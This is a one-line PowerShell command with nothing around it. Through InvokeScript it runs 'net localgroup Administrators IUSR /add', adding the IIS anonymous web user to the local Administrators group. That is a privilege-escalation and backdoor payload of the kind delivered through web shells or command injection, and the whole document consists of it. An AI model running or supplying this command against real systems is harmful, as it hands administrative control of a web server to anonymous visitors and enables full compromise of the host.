$ExecutionContext.InvokeCommand.InvokeScript('net localgroup Administrators IUSR /add')
